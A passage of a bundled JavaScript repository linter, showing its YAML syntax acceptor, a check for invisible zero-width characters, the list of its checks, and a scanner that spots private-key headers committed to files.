    return c === 0x23 && p > start ? skipComment(b, p, end) : -1;
}
function readPlain(b, start, end) {
    const c = first[b[start]];
    if (c === 1 || (c === 2 && byteAt(b, start + 1, end) <= space))
        return -1;
    return readPlainRest(b, start, end);
}
function readPlainRest(b, start, end) {
    let bits = 0;
    let p = start;
    for (; p < end; p++) {
        const c = b[p];
        bits |= c;
        if (look[c] === 0)
            continue;
        if (c === lf)
            break;
        if (c === 0x3a) {
            const next = byteAt(b, p + 1, end);
            if (next === space || next === lf)
                break;
            if (next < space)
                return -1;
        }
        else if (c === 0x23) {
            if (b[p - 1] === space)
                break;
            if (b[p - 1] === 0x09)
                return -1;
        }
        else
            return -1;
    }
    seen.bits |= bits;
    return p;
}
function readFlowPlain(b, start, end) {
    const kind = first[b[start]];
    if (kind === 1)
        return -1;
    if (kind === 2 && (byteAt(b, start + 1, end) <= space || lookInFlow[b[start + 1]] === 1))
        return -1;
    let bits = 0;
    let p = start;
    for (; p < end; p++) {
        const c = b[p];
        bits |= c;
        if (lookInFlow[c] === 0)
            continue;
        if (c === 0x3a) {
            const next = byteAt(b, p + 1, end);
            if (next === space || next === lf)
                break;
            if (next < space || lookInFlow[next] === 1)
                return -1;
        }
        else if (c === 0x23) {
            if (b[p - 1] === space)
                break;
            if (b[p - 1] === 0x09)
                return -1;
        }
        else if (c === lf || c > space)
            break;
        else
            return -1;
    }
    seen.bits |= bits;
    return p;
}
function readQuoted(b, start, end, indent) {
    const quote = b[start];
    let bits = 0;
    seen.lines = false;
    for (let p = start + 1; p < end; p++) {
        const c = b[p];
        bits |= c;
        if (c === quote) {
            if (c === 0x22 || byteAt(b, p + 1, end) !== c) {
                seen.bits |= bits;
                return p + 1;
            }
            p++;
        }
        else if (c === 0x5c && quote === 0x22) {
            p = yaml_scalars_readEscape(b, p, end);
        }
        else if (c < space && c !== 0x09) {
            p = c === lf ? readIndent(b, p + 1, end, indent) - 1 : -1;
            seen.lines = true;
        }
        if (p < 0)
            return -1;
    }
    return -1;
}
function yaml_scalars_readEscape(b, start, end) {
    const c = byteAt(b, start + 1, end);
    if (c === lf)
        return start;
    const digits = c === 0x78 ? 2 : c === 0x75 ? 4 : 0;
    if (digits === 0)
        return '0abtnvfre "/\\N_LP'.includes(String.fromCharCode(c)) ? start + 1 : -2;
    for (let p = start + 2; p < start + 2 + digits; p++) {
        const d = byteAt(b, p, end) | 0x20;
        if (!((d >= 0x30 && d <= 0x39) || (d >= 0x61 && d <= 0x66)))
            return -2;
    }
    return start + 1 + digits;
}
function readIndent(b, start, end, indent) {
    let line = start;
    for (;;) {
        const p = skipSpaces(b, line, end);
        if (p >= end)
            return -1;
        if (b[p] !== lf)
            return b[p] > space && p - line > indent ? p : -1;
        line = p + 1;
    }
}
function readBlockScalar(b, start, end, indent) {
    const sign = byteAt(b, start + 1, end);
    let lineEnd = readTail(b, sign === 0x2b || sign === 0x2d ? start + 2 : start + 1, end);
    let column = -1;
    let widestBlank = 0;
    while (lineEnd !== -1 && lineEnd < end) {
        const line = lineEnd + 1;
        const p = skipSpaces(b, line, end);
        if (byteAt(b, p, end) === lf) {
            if (column < 0)
                widestBlank = Math.max(widestBlank, p - line);
            lineEnd = p;
            continue;
        }
        const spaces = p - line;
        if (spaces <= indent)
            return column < 0 && widestBlank > 0 ? -1 : lineEnd;
        if (column < 0)
            column = spaces;
        if (spaces < column || widestBlank > column || b[p] < space)
            return -1;
        lineEnd = skipComment(b, p, end);
    }
    return lineEnd;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/yaml-flow.js


const maxDepth = 64;
function readFlow(b, start, end, state, depth = 0) {
    if (depth === maxDepth)
        return -1;
    const isMapping = b[start] === 0x7b;
    const closing = isMapping ? 0x7d : 0x5d;
    const base = state.keys.count;
    const indent = state.column();
    let p = skipBetween(b, start + 1, end, indent, depth);
    while (p !== -1 && b[p] !== closing) {
        p = isMapping ? readPair(b, p, end, state, depth) : readNode(b, p, end, state, depth);
        if (p === -1)
            return -1;
        p = skipBetween(b, p, end, indent, depth);
        if (p === -1 || b[p] === closing)
            break;
        p = b[p] === 0x2c ? skipBetween(b, p + 1, end, indent, depth) : -1;
    }
    return p !== -1 && state.closeKeys(base) ? p + 1 : -1;
}
function skipBetween(b, start, end, indent, depth) {
    let line = -1;
    let p = start;
    for (;;) {
        p = skipSpaces(b, p, end);
        if (p >= end)
            return -1;
        const c = b[p];
        if (c === 0x0a) {
            line = ++p;
        }
        else if (c === 0x23) {
            if (p === start)
                return -1;
            p = skipComment(b, p, end);
            if (p === -1)
                return -1;
        }
        else {
            if (line === -1 || p - line > indent)
                return c > 0x20 ? p : -1;
            return depth === 0 && p - line === indent && (c === 0x5d || c === 0x7d) ? p : -1;
        }
    }
}
function readPair(b, start, end, state, depth) {
    const c = b[start];
    const isQuoted = c === 0x22 || c === 0x27;
    let p = isQuoted ? readQuoted(b, start, end, end) : readFlowPlain(b, start, end);
    if (p === -1 || p - start > 1000)
        return -1;
    if (!pushKey(b, isQuoted ? start + 1 : start, isQuoted ? p - 1 : p, isQuoted, state))
        return -1;
    if (isQuoted)
        p = skipSpaces(b, p, end);
    if (byteAt(b, p, end) !== 0x3a)
        return p;
    p = skipBetween(b, p + 1, end, state.column(), depth);
    if (p === -1 || b[p] === 0x2c || b[p] === 0x7d)
        return p;
    return readNode(b, p, end, state, depth);
}
function pushKey(b, start, end, isQuoted, state) {
    let last = end;
    if (isQuoted) {
        for (let i = start; i < end; i++)
            if (b[i] === 0x5c || b[i] === 0x27)
                return false;
    }
    else {
        while (last > start && (b[last - 1] === 0x20 || b[last - 1] === 0x09))
            last--;
    }
    if (last - start === 2 && b[start] === 0x3c && b[start + 1] === 0x3c)
        return true;
    state.keys.push(hashBytes(b, start, last), start);
    return true;
}
function readNode(b, start, end, state, depth) {
    const c = b[start];
    if (c === 0x22 || c === 0x27)
        return readQuoted(b, start, end, state.column());
    if (c === 0x5b || c === 0x7b)
        return readFlow(b, start, end, state, depth + 1);
    if (c === 0x2a)
        return readAlias(b, start, end, state);
    const p = readFlowPlain(b, start, end);
    return p !== -1 && byteAt(b, p, end) === 0x3a ? -1 : p;
}
function readAlias(b, start, end, state) {
    const p = state.readAnchor(b, start, end);
    if (p === -1)
        return -1;
    const next = byteAt(b, p, end);
    return next === 0x20 || next === 0x2c || next === 0x5d || next === 0x7d ? p : -1;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/yaml-state.js

const yaml_state_maxDepth = 400;
class YamlState {
    keys = new KeyStack();
    depth = 0;
    #columns = new Int32Array(yaml_state_maxDepth);
    #bases = new Int32Array(yaml_state_maxDepth);
    #anchors = [];
    reset() {
        this.depth = 0;
        this.keys.count = 0;
        this.#anchors.length = 0;
    }
    column() {
        return this.depth === 0 ? -1 : this.#columns[this.depth - 1];
    }
    isMapping() {
        return this.depth > 0 && this.#bases[this.depth - 1] >= 0;
    }
    sharesColumn() {
        return this.depth > 1 && !this.isMapping() && this.#columns[this.depth - 2] === this.column();
    }
    open(column, isMapping) {
        if (this.depth === yaml_state_maxDepth)
            return false;
        this.#columns[this.depth] = column;
        this.#bases[this.depth++] = isMapping ? this.keys.count : -1;
        return true;
    }
    close() {
        const base = this.#bases[--this.depth];
        return base < 0 || this.closeKeys(base);
    }
    closeKeys(base) {
        if (this.keys.count - base > 1 && this.keys.hasEqualHashes(base))
            return false;
        this.keys.count = base;
        return true;
    }
    closeAll() {
        while (this.depth > 0)
            if (!this.close())
                return false;
        this.reset();
        return true;
    }
    readAnchor(b, start, end) {
        let p = start + 1;
        while (p < end && isNameByte(b[p]))
            p++;
        if (p === start + 1)
            return -1;
        if (b[start] === 0x26)
            this.#anchors.push(start + 1, p);
        else if (!this.#hasAnchor(b, start + 1, p))
            return -1;
        return p;
    }
    #hasAnchor(b, start, end) {
        for (let i = 0; i < this.#anchors.length; i += 2) {
            if (b.compare(b, start, end, this.#anchors[i], this.#anchors[i + 1]) === 0)
                return true;
        }
        return false;
    }
}
function isNameByte(c) {
    return (c >= 0x61 && c <= 0x7a) || (c >= 0x41 && c <= 0x5a) || (c >= 0x30 && c <= 0x39) || c === 0x5f || c === 0x2d;
}

;// CONCATENATED MODULE: ./lib/modules/checks/syntax/yaml-acceptor.js





const afterKey = 0;
const anywhere = 1;
const keyOnly = 2;
const state = new YamlState();
let b = Buffer.alloc(0);
let end = 0;
let lineStart = 0;
let pending = false;
let hasProperties = false;
let plainOpen = false;
let afterComment = false;
let hasRoot = false;
let isEnded = false;
const yaml_acceptor_byteOrderMark = Buffer.from('\u{feff}');
function isPlainlyValidYaml(buffer, length) {
    b = buffer;
    end = length;
    state.reset();
    seen.bits = 0;
    pending = hasProperties = plainOpen = afterComment = hasRoot = isEnded = false;
    const start = (0,syntax_problem/* afterByteOrderMark */.kX)(buffer, length);
    for (let p = start; p < end; p++) {
        p = readLine(p);
        if (p === -1)
            return false;
    }
    return state.closeAll() && (seen.bits < 0x80 || isPlainUtf8(buffer.subarray(start, length)));
}
function isPlainUtf8(content) {
    return (0,external_node_buffer_.isUtf8)(content) && !content.includes(yaml_acceptor_byteOrderMark);
}
function readLine(start) {
    lineStart = start;
    const p = skipSpaces(b, start, end);
    const c = byteAt(b, p, end);
    if (c === 0x0a)
        return p;
    if (c === 0x23) {
        plainOpen = false;
        afterComment = true;
        return skipComment(b, p, end);
    }
    const column = p - start;
    if (column === 0 && isMarker(c))
        return readMarker(c);
    if (c < 0x20 || isEnded)
        return -1;
    if (plainOpen && column > state.column())
        return readContinuation(p);
    plainOpen = false;
    const isItem = c === 0x2d && byteAt(b, p + 1, end) <= 0x20;
    const place = findPlace(column, isItem);
    if (place === -1)
        return -1;
    if (isItem)
        return readItem(p);
    return place === anywhere && afterComment ? readAfterComment(p) : yaml_acceptor_readNode(p, place);
}
function readAfterComment(start) {
    const { depth } = state;
    const p = yaml_acceptor_readNode(start, anywhere);
    return state.depth > depth ? p : -1;
}
function isMarker(c) {
    if (c !== 0x2d && c !== 0x2e)
        return false;
    return (byteAt(b, lineStart + 1, end) === c && byteAt(b, lineStart + 2, end) === c && byteAt(b, lineStart + 3, end) <= 0x20);
}
function readMarker(c) {
    if (c === 0x2e && !hasRoot)
        return -1;
    if (!state.closeAll())
        return -1;
    pending = hasProperties = plainOpen = hasRoot = false;
    isEnded = c === 0x2e;
    return readTail(b, lineStart + 3, end);
}
function readContinuation(start) {
    const p = readPlainRest(b, start, end);
    const c = byteAt(b, p, end);
    if (p === -1 || c === 0x3a)
        return -1;
    plainOpen = c === 0x0a;
    return plainOpen ? p : skipComment(b, p, end);
}
function findPlace(column, isItem) {
    while (state.column() > column) {
        if (!state.close())
            return -1;
        pending = false;
    }
    if (!hasRoot)
        return openRoot(column, isItem);
    const isDeeper = column > state.column();
    if (pending && (isDeeper || (isItem && state.isMapping()))) {
        pending = false;
        return isItem && !state.open(column, false) ? -1 : anywhere;
    }
    pending = hasProperties = false;
    if (isDeeper)
        return -1;
    if (!isItem && state.sharesColumn() && !state.close())
        return -1;
    return isItem === state.isMapping() ? -1 : keyOnly;
}
function openRoot(column, isItem) {
    hasRoot = true;
    return state.open(column, !isItem) ? keyOnly : -1;
}
function readItem(start) {
    const p = skipSpaces(b, start + 1, end);
    const c = byteAt(b, p, end);
    hasProperties = false;
    if (c === 0x0a || c === 0x23)
        return readNothing(p);
    if (c !== 0x2d || byteAt(b, p + 1, end) > 0x20)
        return yaml_acceptor_readNode(p, anywhere);
    return state.open(p - lineStart, false) ? readItem(p) : -1;
}
function readNothing(p) {
    pending = true;
    afterComment = false;
    return byteAt(b, p, end) === 0x0a ? p : skipComment(b, p, end);
}
function yaml_acceptor_readNode(p, place) {
    const c = b[p];
    if (c === 0x22 || c === 0x27)
        return readQuotedNode(p, place);
    switch (c) {
        case 0x5b:
        case 0x7b:
            return place === keyOnly ? -1 : readTailOf(readFlow(b, p, end, state));
        case 0x7c:
        case 0x3e:
            return place === keyOnly || p === lineStart ? -1 : readBlockScalar(b, p, end, state.column());
        case 0x2a:
            return place === keyOnly || hasProperties ? -1 : readTailOf(state.readAnchor(b, p, end));
        case 0x26:
        case 0x21:
            return place === keyOnly || hasProperties ? -1 : readProperties(p);
        default:
            return readPlainNode(p, place);
    }
}
function readTailOf(p) {
    return p === -1 ? -1 : readTail(b, p, end);
}
function readQuotedNode(start, place) {
    const p = readQuoted(b, start, end, state.column());
    if (p === -1)
        return -1;
    const colon = seen.lines ? p : skipSpaces(b, p, end);
    if (byteAt(b, colon, end) !== 0x3a)
        return place === keyOnly ? -1 : readTail(b, p, end);
    if (byteAt(b, colon + 1, end) > 0x20 || seen.lines)
        return -1;
    return yaml_acceptor_readKey(start, place, start + 1, p - 1, true, colon);
}
function readPlainNode(start, place) {
    const p = readPlain(b, start, end);
    if (p === -1)
        return -1;
    const c = byteAt(b, p, end);
    if (c === 0x3a)
        return yaml_acceptor_readKey(start, place, start, p, false, p);
    if (place === keyOnly)
        return -1;
    plainOpen = c === 0x0a;
    return plainOpen ? p : skipComment(b, p, end);
}
function yaml_acceptor_readKey(start, place, from, to, isQuoted, colon) {
    if (place === afterKey || to - from > 1000)
        return -1;
    if (place === anywhere && !state.open(start - lineStart, true))
        return -1;
    if (!pushKey(b, from, to, isQuoted, state))
        return -1;
    hasProperties = false;
    const p = skipSpaces(b, colon + 1, end);
    const c = byteAt(b, p, end);
    return c === 0x0a || c === 0x23 ? readNothing(p) : yaml_acceptor_readNode(p, afterKey);
}
function readProperties(start) {
    let p = b[start] === 0x26 ? state.readAnchor(b, start, end) : readTag(start);
    if (p === -1 || byteAt(b, p, end) > 0x20)
        return -1;
    p = skipSpaces(b, p, end);
    hasProperties = true;
    const c = byteAt(b, p, end);
    return c === 0x0a || c === 0x23 ? readNothing(p) : yaml_acceptor_readNode(p, afterKey);
}
function readTag(start) {
    let p = start + 1;
    while (p < end && isTagByte(b[p]))
        p++;
    return p > start + 1 ? p : -1;
}
function isTagByte(c) {
    const letter = c | 0x20;
    return (c >= 0x2d && c <= 0x3a) || (letter >= 0x61 && letter <= 0x7a) || c === 0x5f;
}

;// CONCATENATED MODULE: ./lib/modules/checks/yaml-syntax.js





const yamlSyntax = fileCheck({
    id: 'yaml-syntax',
    scope: 'file',
    summary: 'YAML that cannot be parsed, and keys that a mapping has twice',
    level: 'error',
    source: 'https://yaml.org/spec/1.2.2/',
    types: file_type/* FileType */.pt.yaml,
    except: file_type/* FileType */.pt.vendored | file_type/* FileType */.pt.fixture,
    docs: `
Files are held to YAML 1.2, any number of documents in each. A key that a mapping has twice is an error: keys are compared
as they are written, so \`1.10\` and \`1.1\` are two. Merge keys (\`<<\`) may be repeated, and so may keys with \`{{\`, which a
template expands. An alias must follow its anchor. Any tag is accepted, and no scalar is wrong for its type.

Lines of a quoted text that are not indented more than its key are forbidden but widely accepted: a warning.

Left alone: folders of test data or of other people's code, and files that fail but are templates of YAML (Helm, Jinja, ERB). A file counts as one if a line, or its value,
begins with \`{{\`, \`{%\`, \`{#\`, \`<%\` or \`<?\` outside of quotes.
`,
    examples: [
        {
            title: 'Documents, anchors, tags and merge keys',
            files: { 'a.yaml': '---\nbase: &base\n  a: !vault x\nother:\n  <<: *base\n---\n- 1\n- 2\n' },
            findings: [],
        },
        {
            title: 'A template',
            files: {
                'templates/service.yaml': 'spec:\n  {{- if .Values.type }}\n  type: {{ .Values.type }}\n  {{- end }}\n',
            },
            findings: [],
        },
        { title: 'A key twice', files: { 'a.yml': 'on: push\njobs: {}\non: pull_request\n' }, findings: ['a.yml:3'] },
        {
            title: 'Indentation that fits nothing, and a tab',
            files: { 'a.yml': 'a:\n    b: 1\n  c: 2\n', 'b.yml': 'a:\n\tb: 1\n' },
            findings: ['a.yml:3', 'b.yml:2'],
        },
        { title: 'A colon that makes a second key', files: { 'a.yml': 'title: Kempt: tidy\n' }, findings: ['a.yml:1'] },
        { title: 'An alias without its anchor', files: { 'a.yml': 'a: 1\nb: *missing\n' }, findings: ['a.yml:2'] },
    ],
    run(file, report) {
        if (isPlainlyValidYaml(file.buffer, file.length))
            return undefined;
        return findYamlError(file.buffer, file.length).then((problem) => (0,syntax_problem/* reportProblem */.kM)(problem, report));
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/zero-width.js



const zeroWidth = fileCheck({
    id: 'zero-width',
    scope: 'file',
    summary: 'Invisible characters in code',
    level: 'warning',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* unkempt */.rV | file_type/* FileType */.pt.markdown | file_type/* FileType */.pt.test,
    source: 'https://www.unicode.org/reports/tr55/',
    docs: `A zero-width space, a word joiner, a byte-order mark in the middle of a file or a tag character (U+E0000 to U+E007F)
cannot be seen: two names look the same and are not, and text can be hidden from a reviewer. Zero-width joiners and
non-joiners are left alone between letters of scripts that need them and within emoji, and so are zero-width spaces in
lines of Khmer, Lao, Myanmar or Thai, which part words with them, and in \`*/\` where it must not end a comment. Prose is
left alone, and so are folders of tests, which try out such characters.`,
    examples: [
        { title: 'A zero-width space in a name', files: { 'a.js': 'const use\u200br = 1;\n' }, findings: ['a.js:1'] },
        { title: 'An emoji that is joined', files: { 'a.js': 'const a = "\u{1F468}\u200d\u{1F469}";\n' }, findings: [] },
        {
            title: 'Persian',
            files: { 'a.js': 'const a = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645";\n' },
            findings: [],
        },
        {
            title: 'Words of Khmer, and a comment within a comment',
            files: {
                'km.json': '{ "a": "\u1794\u17b6\u1793\u200b\u1795\u17d2" }\n',
                'a.js': '/** f(/* 1 *\u200b/) */\n',
            },
            findings: [],
        },
    ],
    run(file, report) {
        if (/\.(?:txt|rst|adoc|html?|po|csv|tsv)$/i.test(file.path) || !mayHide(file.buffer, file.length))
            return;
        for (let line = 0; line < file.lineStarts().length; line++) {
            const text = file.line(line);
            const match = zero_width_hidden.exec(withoutWanted(line === 0 ? text.replace(/^\uFEFF/, ' ') : text));
            if (match === null)
                continue;
            const before = Buffer.byteLength(text.slice(0, match.index));
            report({
                message: `The invisible character ${zero_width_name(match[0])}`,
                at: { offset: file.lineStarts()[line] + before, length: Buffer.byteLength(match[0]) },
                snippet: text.replace(new RegExp(zero_width_hidden, 'gu'), (character) => `<${zero_width_name(character)}>`),
            });
        }
    },
});
function withoutWanted(text) {
    if (!text.includes('\u200B'))
        return text;
    return partsWords.test(text) ? text.replaceAll('\u200B', '_') : text.replace(/(?<=\*)\u200B(?=\/)/g, '_');
}
const partsWords = /[\p{Script=Khmer}\p{Script=Lao}\p{Script=Myanmar}\p{Script=Thai}]/u;
function mayHide(buffer, length) {
    for (let i = 0; i + 2 < length; i++) {
        const byte = buffer[i];
        if (byte < 0xe2)
            continue;
        const next = buffer[i + 1];
        if (byte === 0xe2 && ((next === 0x80 && buffer[i + 2] <= 0x8d) || (next === 0x81 && buffer[i + 2] === 0xa0)))
            return true;
        if ((byte === 0xef && next === 0xbb && buffer[i + 2] === 0xbf) || (byte === 0xf3 && next === 0xa0))
            return true;
    }
    return false;
}
const joinerOutOfPlace = '(?<![\\p{L}\\p{M}\\p{Extended_Pictographic}\\u{FE0F}\\u{1F3FB}-\\u{1F3FF}])[\\u200C\\u200D]|(?<=[\\p{Script=Latin}])[\\u200C\\u200D]';
const zero_width_hidden = new RegExp(`[\\u200B\\u2060\\uFEFF]|[\\u{E0000}-\\u{E007F}](?<!\\u{1F3F4}[\\u{E0000}-\\u{E007F}]+)|${joinerOutOfPlace}`, 'u');
function zero_width_name(character) {
    return `U+${character.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/index.gen.js










































const checks = [
    bidirectionalControl,
    brokenSymlink,
    byteOrderMark,
    caseConflict,
    changeSize,
    codeownersChange,
    commitSubject,
    debugLeftover,
    destroyedSymlink,
    editorconfigSyntax,
    executableWithoutShebang,
    finalNewline,
    focusedTest,
    forbiddenFile,
    ignoredButTracked,
    indentation,
    jsonSyntax,
    largeFile,
    lockfileDrift,
    mergeConflict,
    mixedLineEndings,
    nonUtf8,
    notebookSyntax,
    privateKey,
    secrets,
    shebangNotExecutable,
    skippedTest,
    submoduleDrift,
    suppressions,
    testsUntouched,
    todoWithoutIssue,
    tomlSyntax,
    trailingWhitespace,
    windowsName,
    workflowChange,
    workflowPermissions,
    workflowScriptInjection,
    workflowUnpinnedUses,
    workflowUntrustedCheckout,
    xmlSyntax,
    yamlSyntax,
    zeroWidth,
];


/***/ }),

/***/ 7156:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $A: () => (/* binding */ scanPrivateKeys),
/* harmony export */   qo: () => (/* binding */ keyKeywords)
/* harmony export */ });
/* unused harmony export keyMarkers */
/* harmony import */ var _lib_keywords_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(8342);

const keyMarkers = [
    { text: 'RSA PRIVATE KEY', begin: true, name: 'RSA private key' },
    { text: 'DSA PRIVATE KEY', begin: true, name: 'DSA private key' },
    { text: 'EC PRIVATE KEY', begin: true, name: 'EC private key' },
    { text: 'OPENSSH PRIVATE KEY', begin: true, name: 'OpenSSH private key' },
    { text: 'PRIVATE KEY', begin: true, name: 'private key' },
    { text: 'ENCRYPTED PRIVATE KEY', begin: true, name: 'encrypted private key' },
    { text: 'SSH2 ENCRYPTED PRIVATE KEY', begin: true, name: 'SSH2 private key' },
    { text: 'PGP PRIVATE KEY BLOCK', begin: true, name: 'PGP private key' },
    { text: 'ENCRYPTED SIGSTORE PRIVATE KEY', begin: true, name: 'Sigstore private key' },
    { text: 'ENCRYPTED COSIGN PRIVATE KEY', begin: true, name: 'Cosign private key' },
    { text: 'OpenVPN Static key V1', begin: true, name: 'OpenVPN static key' },
    { text: 'PuTTY-User-Key-File-2', begin: false, name: 'PuTTY private key' },
    { text: 'PuTTY-User-Key-File-3', begin: false, name: 'PuTTY private key' },
];
function keyKeywords() {
    return keyMarkers.map(({ text, begin }) => ({ text: begin ? `BEGIN ${text}` : text }));
}
let scanner;
function scanPrivateKeys(buffer, length, hit) {
    scanner ??= (0,_lib_keywords_js__WEBPACK_IMPORTED_MODULE_0__/* .compileKeywords */ .Q)(keyKeywords());
    scanner.scan(buffer, length, (word, offset) => hit(toKey(buffer, length, keyMarkers[word], offset)));
}
const blockWindow = 65_536;
const dash = 0x2d;
function toKey(buffer, length, marker, at) {
    let start = at;
    let end = at + marker.text.length + (marker.begin ? 6 : 0);
    if (marker.begin) {
        if (buffer[start - 1] === 0x20 && buffer[start - 2] === dash)
            start--;
        while (start > 0 && buffer[start - 1] === dash && at - start < 6)
            start--;
        if (buffer[end] === 0x20 && buffer[end + 1] === dash)
            end++;
        for (let dashes = 0; end < length && buffer[end] === dash && dashes < 5; dashes++)
            end++;
    }
    const rest = buffer.toString('latin1', end, Math.min(length, end + blockWindow));
    const bodyLength = marker.begin ? bodyEnd(rest, marker) : puttyEnd(rest);
    return {
        marker,
        offset: start,
        length: end - start,
        blockLength: end - start + Math.max(0, bodyLength),
        body: bodyLength > 0,
        quoted: /^(?:\\+[nr])*["'`]/.test(rest),
    };
}
const between = String.raw `(?:[\s"'#*>|+,;.()\x60]|\\+[nrt]|\\(?=\s)|%0[AaDd]|&#10;|<br ?/?>)`;
const attribute = String.raw `[A-Z][A-Za-z-]{2,30}:[^\n\\]{1,200}(?:\\+n|\n)`;
const bodyPattern = new RegExp(`^${between}*(?:${attribute}${between}*){0,8}([A-Za-z0-9+/=]{24,})`);
const openVpnPattern = /^\s*(?:#[^\n]*\s*){0,3}([0-9a-fA-F]{24,})/;
function bodyEnd(rest, marker) {
    const match = bodyPattern.exec(rest) ?? openVpnPattern.exec(rest);
    const line = match?.[1] ?? '';
    if (!match || !looksRandom(line))
        return -1;
    const footer = `END ${marker.text}`;
    const end = rest.indexOf(footer);
    if (end < 0)
        return match[0].length;
    return end + footer.length + /^ ?-{0,5}/.exec(rest.slice(end + footer.length, end + footer.length + 6))[0].length;
}
function looksRandom(line) {
    if (!/\d/.test(line) || !/[A-Za-z]/.test(line))
        return false;
    return new Set(line).size >= 9;
}
function puttyEnd(rest) {
    const match = /^:[^\n]{3,40}\n[\s\S]*?Private-Lines: (\d+)\r?\n(?:[A-Za-z0-9+/=]+\r?\n?)+/.exec(rest);
    return match ? match[0].length : -1;
}


/***/ }),

/***/ 7263:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   kM: () => (/* binding */ reportProblem),
/* harmony export */   kX: () => (/* binding */ afterByteOrderMark),
/* harmony export */   mh: () => (/* binding */ lineAt),
/* harmony export */   s$: () => (/* binding */ byteOffset)
/* harmony export */ });
function lineAt(buffer, offset) {
    let line = 1;
    for (let i = buffer.indexOf(10); i !== -1 && i < offset; i = buffer.indexOf(10, i + 1))
        line++;
    return line;
}
function afterByteOrderMark(buffer, length) {
    return length >= 3 && buffer[0] === 0xef && buffer[1] === 0xbb && buffer[2] === 0xbf ? 3 : 0;
}
function byteOffset(text, index) {
    return Buffer.byteLength(text.slice(0, index));
}
function reportProblem(problem, report) {
    if (!problem)
        return;
    const { message, offset, length, tolerated } = problem;
    report({ message, at: { offset, length }, level: tolerated ? 'warning' : undefined });
}


/***/ })

};
;